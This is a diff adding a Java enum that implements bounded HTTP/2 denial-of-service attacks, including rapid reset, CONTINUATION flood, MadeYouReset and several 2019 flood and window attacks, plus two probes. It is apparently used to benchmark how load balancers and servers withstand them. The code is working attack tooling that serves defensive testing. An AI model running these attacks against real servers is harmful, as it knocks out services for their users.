@@ -1,0 +1,412 @@
+package io.github.http2wildfly.measure.attack;
+
+import io.netty.handler.codec.http2.Http2Settings;
+import java.io.IOException;
+import java.net.URI;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Locale;
+import java.util.Optional;
+import java.util.concurrent.CopyOnWriteArrayList;
+import javax.net.ssl.SSLContext;
+
+/**
+ * The HTTP/2 attacks with names, and the two probes of issue hop-2, each a bounded client: at most its frames or
+ * requests, at most the target's time, over connections of {@link RawHttp2} that it closes. It sends at the scale an
+ * attacker picks (tens of thousands of frames), not at a server's limits, and reports what the server did
+ * ({@link Outcome}), judging nothing: the same attack on any HTTP/2 server over TLS (the balancers' benchmark runs each
+ * against WildFly's balancer, HAProxy, nginx and door 2; an IT against door 2).
+ */
+public enum Attack {
+
+    /** CVE-2023-44487: a stream opened and reset at once, again and again, so the server starts work it never finishes. */
+    RAPID_RESET("rapid reset", "CVE-2023-44487", 20_000, "requests") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).onOneConnection((connection, step) -> {
+                connection.headers(stream(step), connection.get(target.largePath()), true);
+                connection.reset(stream(step));
+            });
+        }
+    },
+    /** CVE-2024-27316: one header block that never ends, CONTINUATION after CONTINUATION (8 KB each: 64 MiB in all). */
+    CONTINUATION_FLOOD("CONTINUATION flood", "CVE-2024-27316", 8_192, "frames") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            Run run = new Run(target, this);
+            return run.onOneConnection((connection, step) -> {
+                if (step == 1) {
+                    connection.headersToBeContinued(1, connection.get(target.smallPath()));
+                }
+                connection.continuation(1, 8_192, false);
+            });
+        }
+    },
+    /**
+     * CVE-2025-8671 ("MadeYouReset"; Undertow's CVE-2025-9784): a complete request, then a frame that makes the server
+     * reset the stream itself (a WINDOW_UPDATE of 0): the stream no longer counts against the limit, the work goes on.
+     */
+    MADE_YOU_RESET("MadeYouReset", "CVE-2025-8671", 20_000, "requests") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).onOneConnection((connection, step) -> {
+                connection.headers(stream(step), connection.get(target.largePath()), true);
+                connection.windowUpdate(stream(step), 0);
+            });
+        }
+    },
+    /** CVE-2019-9512: PINGs from a client that reads nothing, so the server's ACKs pile up. */
+    PING_FLOOD("ping flood", "CVE-2019-9512", 500_000, "frames") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).notReading((connection, frame) -> connection.ping(frame));
+        }
+    },
+    /** CVE-2019-9514: requests the server must reset (a WINDOW_UPDATE of 0 on each), from a client that reads nothing. */
+    RESET_FLOOD("reset flood", "CVE-2019-9514", 100_000, "requests") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).notReading((connection, step) -> {
+                connection.headers(stream(step), connection.get(target.smallPath()), true);
+                connection.windowUpdate(stream(step), 0);
+            });
+        }
+    },
+    /** CVE-2019-9515: SETTINGS frames from a client that reads nothing, so the server's ACKs pile up. */
+    SETTINGS_FLOOD("settings flood", "CVE-2019-9515", 500_000, "frames") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).notReading((connection, frame) -> connection.settings(new Http2Settings()));
+        }
+    },
+    /** CVE-2019-9518: a request body sent as DATA frames of no bytes, each costing the server a frame's work and nothing else. */
+    EMPTY_FRAMES("empty frames", "CVE-2019-9518", 500_000, "frames") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            Run run = new Run(target, this);
+            return run.onOneConnection((connection, step) -> {
+                if (step == 1) {
+                    connection.headers(1, connection.post(target.smallPath()), false);
+                }
+                connection.data(1, new byte[0], false);
+            });
+        }
+    },
+    /** CVE-2019-9517: large answers asked for on a window of 0, held open: the server buffers what it cannot send. */
+    ZERO_WINDOW("zero window", "CVE-2019-9517", 400, "requests") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).heldOpen(4, new Http2Settings().initialWindowSize(0),
+                    (connection, step) -> connection.headers(stream(step), connection.get(target.largePath()), true), (connection, streams) -> {
+                    });
+        }
+    },
+    /** CVE-2019-9511: large answers on a window of 1 byte, credited a byte at a time, so the server sends them in 1-byte frames. */
+    DATA_DRIBBLE("data dribble", "CVE-2019-9511", 100, "requests") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).heldOpen(1, new Http2Settings().initialWindowSize(1),
+                    (connection, step) -> connection.headers(stream(step), connection.get(target.largePath()), true), (connection, streams) -> {
+                        for (int stream : streams) {
+                            connection.windowUpdate(stream, 1);
+                        }
+                        connection.windowUpdate(0, streams.size());
+                    });
+        }
+    },
+    /** CVE-2019-9513: streams whose priorities are shuffled without end, so the server rebuilds its priority tree. */
+    RESOURCE_LOOP("resource loop", "CVE-2019-9513", 200_000, "frames") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            Run run = new Run(target, this);
+            int streams = 100;
+            return run.onOneConnection((connection, step) -> {
+                if (step <= streams) {
+                    connection.headers(stream(step), connection.get(target.smallPath()), true);
+                } else { // each stream made to depend on another, a new one each time
+                    int stream = stream(1 + step % streams);
+                    int dependency = stream(1 + (step + 37) % streams);
+                    connection.priority(stream, dependency == stream ? 0 : dependency, (short) (1 + step % 256));
+                }
+            });
+        }
+    },
+    /**
+     * Issue hop-2's first probe: the 2 MB tile asked for and cancelled as soon as its answer begins, as a browser does when
+     * its user leaves a page of large images; a connection the server closes is opened again, as browsers do.
+     */
+    CANCELLED_DOWNLOADS("cancelled downloads", "hop-2", 450, "requests") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).cancelledAtTheirHeaders();
+        }
+    },
+    /** Issue hop-2's second probe: 4 connections of 2,000 POSTs each declaring a 64 KiB body and sending none of it. */
+    BODILESS_POSTS("bodiless POSTs", "hop-2", 8_000, "requests") {
+        @Override
+        Outcome run(Target target) throws IOException, InterruptedException {
+            return new Run(target, this).heldOpen(4, new Http2Settings(), (connection, step) -> connection.headers(stream(step),
+                    connection.post(target.smallPath()).set("content-length", "65536"), false), (connection, streams) -> {
+                    });
+        }
+    };
+
+    /**
+     * Where an attack goes: a server's door 2 (HTTP/2 over TLS) whose certificate {@code tls} trusts, a small and a large
+     * answer on it, and how long an attack may last.
+     */
+    public record Target(SSLContext tls, URI door, String smallPath, String largePath, Duration time) {
+    }
+
+    /** One step of an attack on a connection (a request, a frame), numbered from 1. */
+    interface Step {
+        void send(RawHttp2 connection, int step) throws Exception;
+    }
+
+    /** The client stream a step opens where each opens one: 1, 3, 5, ... */
+    static int stream(int step) {
+        return 2 * step - 1;
+    }
+
+    /** What a held attack does on each connection, round after round, while it holds them. */
+    interface Hold {
+        void round(RawHttp2 connection, List<Integer> streams) throws Exception;
+    }
+
+    private final String label;
+    private final String reference;
+    private final long scale;
+    private final String unit;
+
+    Attack(String label, String reference, long scale, String unit) {
+        this.label = label;
+        this.reference = reference;
+        this.scale = scale;
+        this.unit = unit;
+    }
+
+    /** Runs the attack on the target and says what the server did. */
+    public Outcome against(Target target) throws IOException, InterruptedException {
+        return run(target);
+    }
+
+    abstract Outcome run(Target target) throws IOException, InterruptedException;
+
+    /** As the report names it: "rapid reset". */
+    public String label() {
+        return label;
+    }
+
+    /** Its CVE, or the issue that found it. */
+    public String reference() {
+        return reference;
+    }
+
+    /** As {@code cluster.bench.attacks} names it: rapid-reset, ping-flood, ... */
+    public String token() {
+        return name().toLowerCase(Locale.ROOT).replace('_', '-');
+    }
+
+    public static Optional<Attack> of(String token) {
+        for (Attack attack : values()) {
+            if (attack.token().equals(token)) {
+                return Optional.of(attack);
+            }
+        }
+        return Optional.empty();
+    }
+
+    /** One run of an attack: its clock, its connections, and the tally of what they saw. */
+    private static final class Run {
+
+        private static final int FLUSH_EVERY = 64;
+        /** How long the server's last word (its GOAWAY, its close) is waited for once an attack has sent all it will. */
+        private static final Duration LAST_WORD = Duration.ofSeconds(2);
+
+        private final Target target;
+        private final Attack attack;
+        private final Instant started = Instant.now();
+        private final Instant deadline;
+        private final List<RawHttp2> connections = new CopyOnWriteArrayList<>();
+        private final Watchdog watchdog;
+
+        Run(Target target, Attack attack) {
+            this.target = target;
+            this.attack = attack;
+            this.deadline = started.plus(target.time());
+            this.watchdog = new Watchdog(connections, deadline);
+        }
+
+        private boolean inTime() {
+            return Instant.now().isBefore(deadline);
+        }
+
+        private RawHttp2 open(Http2Settings ours) throws IOException, InterruptedException {
+            RawHttp2 connection = RawHttp2.open(target.tls(), target.door(), ours);
+            connections.add(connection);
+            connection.awaitSettingsExchanged();
+            return connection;
+        }
+
+        /** Steps on one connection until all are sent, the server closes it, or the time is up. */
+        Outcome onOneConnection(Step step) throws IOException, InterruptedException {
+            RawHttp2 connection = open(new Http2Settings());
+            long sent = 0;
+            try {
+                for (int i = 1; i <= attack.scale && inTime(); i++) {
+                    step.send(connection, i);
+                    if (i % FLUSH_EVERY == 0 && !connection.flush() || connection.closedByTheServer() || connection.goAwayError() >= 0) {
+                        break;
+                    }
+                    sent = i;
+                }
+                connection.flush();
+            } catch (Exception refused) {
+                // the server's close, seen by a write (or by the codec, which refuses a frame once the connection is gone)
+            }
+            return end(sent);
+        }
+
+        /** Frames from a client that reads nothing until it has sent them all (or the server closes, or the time is up). */
+        Outcome notReading(Step step) throws IOException, InterruptedException {
+            RawHttp2 connection = open(new Http2Settings());
+            connection.pauseReading();
+            long sent = 0;
+            try {
+                for (int i = 1; i <= attack.scale && inTime(); i++) {
+                    step.send(connection, i);
+                    if (i % FLUSH_EVERY == 0 && !connection.flush()) {
+                        break;
+                    }
+                    sent = i;
+                }
+                connection.flush();
+            } catch (Exception refused) {
+                // as above
+            }
+            connection.resumeReading(); // what the server said meanwhile, its GOAWAY last
+            return end(sent);
+        }
+
+        /** Requests opened over {@code count} connections with these SETTINGS, then held until the time is up, a round at a time. */
+        Outcome heldOpen(int count, Http2Settings ours, Step request, Hold hold) throws IOException, InterruptedException {
+            long sent = 0;
+            List<List<Integer>> streams = new ArrayList<>();
+            try {
+                for (int c = 0; c < count; c++) {
+                    RawHttp2 connection = open(ours);
+                    List<Integer> opened = new ArrayList<>();
+                    for (int i = 1; i <= attack.scale / count && inTime(); i++) {
+                        request.send(connection, i);
+                        opened.add(stream(i));
+                        sent++;
+                    }
+                    connection.flush();
+                    streams.add(opened);
+                }
+                while (inTime()) {
+                    for (int c = 0; c < connections.size(); c++) {
+                        hold.round(connections.get(c), streams.get(c));
+                        connections.get(c).flush();
+                    }
+                    Thread.sleep(10);
+                }
+            } catch (Exception refused) {
+                // as above
+            }
+            return end(sent);
+        }
+
+        /** The large answer asked for and cancelled once its HEADERS came; a closed connection opened again. */
+        Outcome cancelledAtTheirHeaders() throws IOException, InterruptedException {
+            long sent = 0;
+            RawHttp2 connection = openCrediting();
+            int stream = 1;
+            while (sent < attack.scale && inTime()) {
+                if (connection.closedByTheServer() || connection.goAwayError() >= 0) {
+                    try {
+                        connection = openCrediting();
+                    } catch (IOException refused) {
+                        break; // the server takes no new connection: the attack ends here
+                    }
+                    stream = 1;
+                }
+                try {
+                    connection.headers(stream, connection.get(target.largePath()), true);
+                    if (connection.flush()) {
+                        sent++;
+                        connection.awaitStatus(stream, Duration.between(Instant.now(), deadline).plusMillis(1));
+                        connection.reset(stream);
+                        connection.flush();
+                    } else {
+                        connection.awaitGoAwayOrClose(LAST_WORD);
+                    }
+                } catch (RuntimeException gone) {
+                    connection.awaitGoAwayOrClose(LAST_WORD); // the server's close, seen by the codec: the next turn opens another
+                }
+                stream += 2;
+            }
+            return end(sent);
+        }
+
+        /** A connection whose window is given back as DATA comes (each stream's is not): a browser's, reading what arrives. */
+        private RawHttp2 openCrediting() throws IOException, InterruptedException {
+            RawHttp2 connection = open(new Http2Settings());
+            connection.creditTheConnection();
+            return connection;
+        }
+
+        /** The server's last word on every connection, then what they saw, added up; every connection closed. */
+        private Outcome end(long sent) throws InterruptedException {
+            watchdog.close();
+            Outcome.Tally tally = new Outcome.Tally(watchdog.fired());
+            for (RawHttp2 connection : connections) {
+                connection.awaitGoAwayOrClose(LAST_WORD);
+            }
+            for (RawHttp2 connection : connections) {
+                tally.add(connection);
+                try {
+                    connection.close();
+                } catch (IOException alreadyGone) {
+                    // closed is what we want
+                }
+            }
+            return tally.outcome(sent, attack.scale, attack.unit, Duration.between(started, Instant.now()));
+        }
+    }
+
+    /** Closes the attack's connections at its deadline (and a little after), whatever blocks its writes. */
+    private static final class Watchdog implements AutoCloseable {
+
+        private final Thread thread;
+        private volatile boolean fired;
+
+        Watchdog(List<RawHttp2> connections, Instant deadline) {
+            thread = new Thread(() -> {
+                try {
+                    Thread.sleep(Math.max(0, Duration.between(Instant.now(), deadline).plusSeconds(1).toMillis()));
+                    fired = true;
+                    for (RawHttp2 connection : connections) {
+                        connection.close();
+                    }
+                } catch (InterruptedException | IOException done) {
+                    // the attack ended first
+                }
+            }, "attack-watchdog");
+            thread.setDaemon(true);
+            thread.start();
+        }
+
+        /** Whether it had to close the connections: the attack's writes were blocked, the server no longer reading them. */
+        boolean fired() {
+            return fired;
+        }
+
+        @Override
+        public void close() {
+            thread.interrupt();
+        }
+    }
+}
